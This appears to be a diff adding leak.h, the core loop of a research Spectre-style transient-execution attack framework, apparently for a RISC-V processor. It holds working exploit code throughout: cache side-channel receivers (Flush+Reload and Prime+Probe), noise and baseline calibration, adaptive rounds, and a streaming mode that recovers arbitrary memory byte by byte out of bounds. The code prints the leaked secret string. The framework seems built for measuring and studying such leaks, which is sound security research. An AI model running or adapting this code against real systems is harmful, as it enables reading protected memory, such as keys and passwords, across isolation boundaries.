@@ -0,0 +1,332 @@
+#ifndef LEAK_H
+#define LEAK_H
+
+/**
+ * The attack loop around the receiver of receiver.h and the sender of the including program.
+ * Before including this, the program defines
+ * - ATTACK_NAME: a short string that names the attack in the telemetry records, e.g. "ssb",
+ * - SENDER_TRANSMIT(targetIdx, victimIdx, shift): one transient window that encodes LEAK_SLICE(guideArray[targetIdx], shift)
+ *   in probeArray. Architecturally it must not read guideArray[targetIdx] for an out-of-bounds targetIdx,
+ *   and targetIdx 0 has to be a harmless in-bounds index. victimIdx selects a victim instance (0 to VICTIM_FUNC_COUNT - 1, or ignored),
+ * - SENDER_PREPARE(targetIdx, victimIdx, shift): optional, run right before every transmission, e.g. predictor training.
+ * The phases are charged to PHASE_INIT and PHASE_VICTIM of telemetry.h.
+ */
+#ifndef ATTACK_NAME
+#error "Define ATTACK_NAME before including leak.h."
+#endif
+#ifndef SENDER_TRANSMIT
+#error "Define SENDER_TRANSMIT(targetIdx, victimIdx, shift) before including leak.h."
+#endif
+#ifndef SENDER_PREPARE
+#define SENDER_PREPARE(targetIdx, victimIdx, shift) ((void)0)
+#endif
+#ifndef VICTIM_FUNC_COUNT
+#define VICTIM_FUNC_COUNT 1 // A single victim instance, victimIdx is always 0 in streaming mode.
+#endif
+
+#if RECEIVER_MODE == RECEIVER_PRIME_PROBE
+
+/**
+ * Prime the probeArray sets, then run PRIME_NOISE_ROUNDS rounds of the sender with the in-bounds index 0
+ * (architectural and speculative path both read guideArray[0]) and mark the sets that are disturbed in more than half of them.
+ * The sender's own accesses may differ per victim instance (e.g. its slot in tempArray), so this is done again for every byte.
+ * A secret whose probe line shares a set with that noise can not be seen by this receiver.
+ * The architectural line of the calibrated slice is left out of primeNoise, see below.
+ * Leaves results() and hitIdx/hitTimes cleared and the sets primed.
+ */
+void calibratePrimeNoise(uint32_t victimIdx, uint32_t shift){
+	for (uint32_t w = 0; w < PRIME_WORDS; w++){
+		primeNoise[w] = 0;
+	}
+	resetResults(hitIdx, hitTimes);
+	flushProbeLines();
+	for (uint32_t round = 0; round < PRIME_NOISE_ROUNDS; round++){
+		SENDER_PREPARE(0, victimIdx, shift);
+		SENDER_TRANSMIT(0, victimIdx, shift);
+		primeProbeAttack(hitIdx, hitTimes, LEAK_SLICE_VALUES);
+	}
+	for (uint32_t v = 0; v < LEAK_SLICE_VALUES; v++){
+		if (results[v] * 2 > PRIME_NOISE_ROUNDS){
+			primeNoise[v >> 5] |= 1u << (v & 31);
+		}
+	}
+	// The architectural line of this slice is the victim's own access, not noise, and the mask is reused for the other slices,
+	// where that line may carry the secret (while their own architectural line is skipped by the receiver anyway).
+	primeNoise[LEAK_ARCH_LINE(shift) >> 5] &= ~(1u << (LEAK_ARCH_LINE(shift) & 31));
+	resetResults(hitIdx, hitTimes);
+	// Clearing results() has just disturbed its sets.
+	flushProbeLines();
+}
+
+#endif
+
+#if BASELINE_ROUNDS
+// Hits of every probe line in BASELINE_ROUNDS rounds without a secret, per victim instance and slice. Written before it is read.
+RSD_NOINIT uint8_t background[VICTIM_FUNC_COUNT][LEAK_SLICES][LEAK_SLICE_VALUES];
+
+/**
+ * Count the hits of every probe line over BASELINE_ROUNDS rounds of the sender with the in-bounds index 0 into background[],
+ * i.e. the hits that come without any secret, for every victim instance and slice that leakByte() will use.
+ * Once per run: VICTIM_FUNC_COUNT * LEAK_SLICES * BASELINE_ROUNDS rounds.
+ * The architectural line of a slice is the victim's own access rather than background, so it is left at 0.
+ * @return the background hits of all lines, for telemetry
+ */
+uint32_t calibrateBackground(){
+	uint32_t sum = 0;
+	for (uint32_t victimIdx = 0; victimIdx < VICTIM_FUNC_COUNT; victimIdx++){
+		for (uint32_t shift = 0; shift < 8; shift += LEAK_BITS){
+			resetResults(hitIdx, hitTimes);
+			for (uint32_t round = 0; round < BASELINE_ROUNDS; round++){
+				flushProbeLines();
+				SENDER_PREPARE(0, victimIdx, shift);
+				SENDER_TRANSMIT(0, victimIdx, shift);
+				cacheAttack(hitIdx, hitTimes, LEAK_SLICE_VALUES);
+			}
+			results[LEAK_ARCH_LINE(shift)] = 0;
+			for (uint32_t v = 0; v < LEAK_SLICE_VALUES; v++){
+				background[victimIdx][shift / LEAK_BITS][v] = results[v];
+				sum += results[v];
+			}
+		}
+	}
+	resetResults(hitIdx, hitTimes);
+	return sum;
+}
+#endif
+
+/**
+ * Leak the byte at guideArray[targetIdx] with victim instance victimIdx, in LEAK_SLICES slices of up to ATTACK_ROUNDS rounds each.
+ * byteIdx only labels the telemetry records.
+ * @param outHits hits of the weakest slice, i.e. the confidence of the byte
+ * @param outRounds rounds spent on the byte
+ * @return the decoded byte
+ */
+uint8_t leakByte(uint32_t targetIdx, uint32_t victimIdx, uint32_t byteIdx, uint32_t* outHits, uint32_t* outRounds){
+
+	uint8_t byteValue = 0;
+	uint32_t byteHits = ATTACK_ROUNDS;
+	uint32_t byteRounds = 0;
+#if TELEMETRY
+	uint32_t byteStray = 0; // Hits on lines other than the decoded ones, for telemetry.
+#endif
+
+	// A whole byte is one slice with LEAK_BITS 8.
+	for(uint32_t shift = 0; shift < 8; shift += LEAK_BITS){
+
+#if RECEIVER_MODE == RECEIVER_PRIME_PROBE
+		// Prime once per slice instead of flushing every round. Its cycles are charged to the flush phase of the first round.
+		// Apart from the architectural line, which calibratePrimeNoise() leaves out of the mask, the noise sets depend on the
+		// victim function and not on the slice, so they are found once per byte.
+		TELEMETRY_START();
+		if (shift == 0){
+			calibratePrimeNoise(victimIdx, shift);
+		}
+		else {
+			resetResults(hitIdx, hitTimes);
+			flushProbeLines();
+		}
+		TELEMETRY_MARK(PHASE_FLUSH);
+#else
+		// Clear results for every character (every slice of it).
+		resetResults(hitIdx, hitTimes);
+#endif
+
+		// Run the attack on the same idx for ATTACK_ROUNDS times (at most, in adaptive mode).
+		uint32_t atkRound;
+		for(atkRound = 0; atkRound < ATTACK_ROUNDS; atkRound++){
+
+			TELEMETRY_START();
+
+#if RECEIVER_MODE == RECEIVER_FLUSH_RELOAD
+			// Make sure array you read from is not in the cache.
+			flushProbeLines();
+			TELEMETRY_MARK(PHASE_FLUSH);
+#endif
+
+			SENDER_PREPARE(targetIdx, victimIdx, shift);
+			TELEMETRY_MARK(PHASE_INIT);
+			SENDER_TRANSMIT(targetIdx, victimIdx, shift);
+			TELEMETRY_MARK(PHASE_VICTIM);
+
+#if RECEIVER_MODE == RECEIVER_PRIME_PROBE
+			primeProbeAttack(hitIdx, hitTimes, LEAK_ARCH_LINE(shift));
+#else
+			cacheAttack(hitIdx, hitTimes, LEAK_ARCH_LINE(shift));
+#endif
+			TELEMETRY_MARK(PHASE_PROBE);
+
+			telemetryEndRound(byteIdx, atkRound);
+
+#if ADAPTIVE_ROUNDS
+			// Sequential test: the byte is decided once the leader is ADAPTIVE_MARGIN hits ahead of the runner-up.
+			if (hitTimes[0] - hitTimes[1] >= ADAPTIVE_MARGIN){
+				atkRound++; // Count the current round before leaving.
+				break;
+			}
+#endif
+
+		}
+
+#if BASELINE_ROUNDS
+		rankExcess(hitIdx, hitTimes, background[victimIdx][shift / LEAK_BITS], atkRound, LEAK_ARCH_LINE(shift));
+#endif
+		uint32_t sliceValue = hitIdx[0];
+		uint32_t sliceHits = hitTimes[0];
+		// No other line was hot (often enough): the slice equals the architectural one.
+		if (LEAK_ARCH_FALLBACK(hitTimes[0], atkRound)){
+			sliceValue = LEAK_ARCH_LINE(shift);
+			sliceHits = atkRound - hitTimes[0];
+		}
+#if TELEMETRY
+		for (uint32_t v = 0; v < LEAK_SLICE_VALUES; v++){
+			byteStray += results[v];
+		}
+		byteStray -= results[sliceValue];
+#endif
+		byteValue |= sliceValue << shift;
+		byteRounds += atkRound;
+		if (sliceHits < byteHits){
+			byteHits = sliceHits; // A byte is as reliable as its weakest slice.
+		}
+
+	}
+
+	telemetryEndByte(byteIdx, byteValue, byteRounds, byteStray);
+	*outHits = byteHits;
+	*outRounds = byteRounds;
+	return byteValue;
+}
+
+#if STREAM_LENGTH
+/**
+ * Streaming mode: leak length bytes from base on, starting at offset, and write an @S record (telemetry.h) for each one
+ * as soon as it is decided. Nothing is sized by the length: the victim instances are used round-robin,
+ * so VICTIM_FUNC_COUNT only bounds how often one instance (and its predictor history) comes back.
+ */
+void streamLeak(uint32_t base, uint32_t length, uint32_t offset){
+	uint32_t hits;
+	uint32_t rounds;
+	telemetryStreamStart(base, length, offset);
+	for (; offset < length; offset++){
+		uint8_t value = leakByte(base + offset - (uint32_t)guideArray, offset % VICTIM_FUNC_COUNT, offset, &hits, &rounds);
+		telemetryStreamByte(offset, value, hits, rounds);
+	}
+}
+#endif
+
+/**
+ * Fast boot: write the start contents of guideArray and probeArray (both RSD_NOINIT) with word stores in one pass.
+ * Only guideArray's matter (GUIDE_FILL_VALUE); probeArray's are written so that its lines hold defined data.
+ */
+void bootArrays(){
+	uint32_t fill = GUIDE_FILL_VALUE * 0x01010101u;
+	for (uint32_t* word = (uint32_t*)guideArray; word < (uint32_t*)(guideArray + sizeof(guideArray)); word++){
+		*word = fill;
+	}
+	for (uint32_t* word = (uint32_t*)probeArray; word < (uint32_t*)(probeArray + sizeof(probeArray)); word++){
+		*word = fill;
+	}
+}
+
+/**
+ * Leave the cache as every later round finds it: one harmless transmission with the in-bounds index 0 loads the sender's
+ * code and data (e.g. tempArray and guideArray[0]), then probeArray is flushed. Otherwise the first byte would start from
+ * whatever the calibrations left behind, and be less reliable than the rest.
+ */
+void warmStart(){
+	SENDER_PREPARE(0, 0, 0);
+	SENDER_TRANSMIT(0, 0, 0);
+	flushProbeLines();
+}
+
+/**
+ * The whole run: calibrations, then SECRET_STRING (or the STREAM_LENGTH window) byte by byte, written to outputAddr.
+ * An attack program's main() only has to call this.
+ */
+void leakRun(){
+
+	bootArrays();
+	telemetryInit();
+	telemetryAttack(ATTACK_NAME);
+	telemetryNote('I', READ_CSR(mcycle)); // Cycles since reset, loader and bootArrays() included.
+
+#if AUTO_THRESHOLD
+	// Measure the hit threshold of this machine instead of relying on a rebuild with a hand-tuned CACHE_HIT_THRESHOLD.
+	cacheHitThreshold = calibrateHitThreshold((uint32_t)probeArray, sizeof(probeArray), CACHE_HIT_THRESHOLD);
+	telemetryNote('O', timerOverhead);
+#endif
+	telemetryNote('C', cacheHitThreshold);
+
+	// Find the minimal eviction set once, so that every flushCache() below is a short walk over it.
+	telemetryNote('E', calibrateEvictionSet((uint32_t)probeArray, sizeof(probeArray), cacheHitThreshold));
+#if BASELINE_ROUNDS
+	telemetryNote('G', calibrateBackground());
+#endif
+
+    *outputAddr = '=';
+    *outputAddr = '=';
+    *outputAddr = '=';
+    *outputAddr = 'S';
+    *outputAddr = 't';
+    *outputAddr = 'a';
+    *outputAddr = 'r';
+    *outputAddr = 't';
+    *outputAddr = '=';
+    *outputAddr = '=';
+    *outputAddr = '=';
+    *outputAddr = '\n';
+
+	warmStart();
+
+#if STREAM_LENGTH
+	streamLeak(STREAM_BASE, STREAM_LENGTH, STREAM_RESUME_OFFSET);
+#else
+	char* secretString = SECRET_STRING;
+
+	uint32_t attackIdx = (uint32_t)(secretString - (char*)guideArray);
+
+	for(uint32_t len = 0; len < SECRET_LENGTH; len++){
+
+		uint32_t byteHits;
+		uint32_t byteRounds;
+		uint8_t byteValue = leakByte(attackIdx, len, len, &byteHits, &byteRounds);
+
+		*outputAddr = 'V';
+    	*outputAddr = 'a';
+    	*outputAddr = 'l';
+    	*outputAddr = 'u';
+    	*outputAddr = 'e';
+    	*outputAddr = ':';
+    	*outputAddr = ' ';
+		*outputAddr = (char)byteValue;
+        *outputAddr = ' ';
+        *outputAddr = 'H';
+        *outputAddr = 'i';
+        *outputAddr = 't';
+        *outputAddr = ':';
+        *outputAddr = ' ';
+		*outputAddr = (char)byteHits + '0';
+        *outputAddr = '\n';
+
+		attackIdx++;
+
+	}
+#endif
+
+    *outputAddr = '=';
+    *outputAddr = '=';
+    *outputAddr = '=';
+    *outputAddr = 'E';
+    *outputAddr = 'n';
+    *outputAddr = 'd';
+    *outputAddr = '=';
+    *outputAddr = '=';
+    *outputAddr = '=';
+    *outputAddr = '\n';
+
+	telemetryEnd();
+
+}
+
+
+#endif